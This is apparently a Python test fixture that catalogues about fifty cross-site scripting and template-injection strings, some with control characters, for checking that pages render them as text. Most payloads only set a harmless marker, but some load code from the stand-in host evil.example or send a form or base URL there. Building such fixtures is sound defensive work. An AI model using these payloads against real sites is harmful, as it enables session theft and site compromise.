"""Texts that run as a script, make an element or leave the page, where a page takes them for more than texts.

Each one that would run sets `window.ran` or opens a dialog, each element has the attribute `zz`, and each address is at
evil.example. All are shorter than 200 characters and have no control characters, so that names can hold them too.
"""

from __future__ import annotations

RUN = "window.ran=1"

#: One text for each way out of a place on a page.
ATTACKS = {
    "script": f"<script zz>{RUN}</script>",
    "script from elsewhere": "<script zz src=//evil.example/x.js></script>",
    "end of a script": f"</script><script zz>{RUN}</script>",
    "letters of both cases": f"<ScRiPt zz >{RUN}</sCrIpT >",
    "script without an end": f"<script zz>{RUN}//<",
    "handler of an image": f"<img zz src=x onerror={RUN}>",
    "slashes for spaces": f"<img/zz/src=x/onerror={RUN}//>",
    "backquotes": f"<img zz src=`x` onerror=`{RUN}`>",
    "broken end of a tag": f'<<img zz src=x onerror="{RUN}" ><"',
    "svg": f"<svg zz onload={RUN}><animate zz onbegin={RUN} attributeName=x dur=1s></svg>",
    "svg that holds a link": f"<svg zz><a xlink:href='javascript:{RUN}'><text y=9>go</text></a></svg>",
    "mathml": f'<math zz><mtext><table><mglyph><style><!--</style><img zz src=x onerror="{RUN}">',
    "form that changes while it is parsed":
        "<form zz><math><mtext></form><form zz>"
        f"<mglyph><style></math><img zz src onerror={RUN}>",
    "noscript": f'<noscript zz><p title="</noscript><img zz src=x onerror={RUN}>">',
    "end of a text area": f"</textarea><img zz src=x onerror={RUN}>",
    "end of a title": f"</title><img zz src=x onerror={RUN}>",
    "end of a list of options": f"</option></select></datalist><img zz src=x onerror={RUN}>",
    "end of a block of code": f"</code></pre></bdi></td></table><img zz src=x onerror={RUN}>",
    "double quote": f'" zz autofocus tabindex=1 onfocus="{RUN}" x="',
    "single quote": f"' zz autofocus tabindex=1 onfocus='{RUN}' x='",
    "quote and bracket": f"\"'><img zz src=x onerror={RUN}>",
    "attribute without quotes": f"x zz onmouseover={RUN} autofocus onfocus={RUN}",
    "address that is a script": f"javascript:{RUN}//",
    "address that is a script, disguised": f"jAvAsCrIpT&colon;{RUN}&NewLine;",
    "link": f'<a zz href="javascript:{RUN}" autofocus>click</a>',
    "address with a page in it": f"data:text/html,<script zz>{RUN}</script>",
    "frame": f'<iframe zz srcdoc="<script>parent.ran=1</script>" src="javascript:{RUN}"></iframe>',
    "base": '<base zz href="https://evil.example/">',
    "refresh":
        f'<meta zz http-equiv="refresh" content="0;url=javascript:{RUN}">'
        '<meta zz http-equiv=refresh content=0;//evil.example>',
    "style": '</style><style zz>@import "//evil.example/x.css";body{background:url(//evil.example/y)}</style>',
    "link of a style": "<link zz rel=stylesheet href=//evil.example/x.css>",
    "attribute of style": '" zz style="background:url(//evil.example/z);position:fixed" x="',
    "comment": f"--><img zz src=x onerror={RUN}><!--",
    "comment that ends early": f"<!--><img zz src=x onerror={RUN}>-->",
    "cdata": f"]]><![CDATA[><img zz src=x onerror={RUN}>",
    "template of jinja": "{{7*7}}{% raw %}{{config}}{{self.__init__.__globals__}}#{7*7}${7*7}<%= 7*7 %>",
    "template of a script": f"${{{RUN}}}`+({RUN})+`{{{{constructor.constructor('{RUN}')()}}}}",
    "names that the script of the page uses":
        '<form zz id=main name=body><input zz id=pause name=dataset>'
        '<img zz id=told name=getElementById>',
    "names of prototypes":
        '<a zz id=__proto__ name=constructor href="tel:1"></a>'
        '<b zz id=keys data-live=1 data-root=//evil.example>',
    "entities": f"&lt;img zz src=x onerror={RUN}&gt;&#60;script zz&#62;{RUN}&#60;/script&#62;&quot;&#39;",
    "entities twice": f"&amp;lt;script zz&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    "wide brackets": f"＜script zz＞{RUN}＜/script＞ ‹img zz onerror={RUN}›",
    "letters that grow": f"ſcript ı <ſcript zz>{RUN}</ſcript> İ <ıframe zz>",
    "directions and what is not seen": f"\u202e>gnp.exe<img zz\u200b src=x\u2066 onerror={RUN}\u2069\ufeff>",
    "backslashes": f"\\\"><img zz src=x onerror={RUN}>\\x3cscript zz\\x3e\\u003cscript\\u003e{RUN}",
    "object": f'<object zz data="javascript:{RUN}"><embed zz src="//evil.example/e"></object>',
    "details": f"<details zz open ontoggle={RUN}><video zz autoplay onloadstart={RUN}><source zz src=x>",
    "button that sends elsewhere":
        '<button zz form=edit formaction="https://evil.example/">Go</button>'
        f'<input zz autofocus onfocus={RUN}>',
    "search line": f'" onfocus={RUN} zz autofocus channel:x error:"\'><svg zz onload={RUN}>',
}  # fmt: skip

#: The same with characters that names refuse, for texts that take them.
WITH_CONTROLS = [
    f"<img zz\x0csrc=x\x0bonerror={RUN}>", f"java\tscript\n:{RUN}", f"<\x1bscript zz>{RUN}</script>\x7f\x85\u2028",
    f"\r\n\r\n<script zz>{RUN}</script>", f"<a zz href=\"\x01javascript:{RUN}\">x</a>",
]  # fmt: skip

TEXTS = list(ATTACKS.values())
#: All of them in one text.
ALL = "\n".join([*TEXTS, *WITH_CONTROLS])
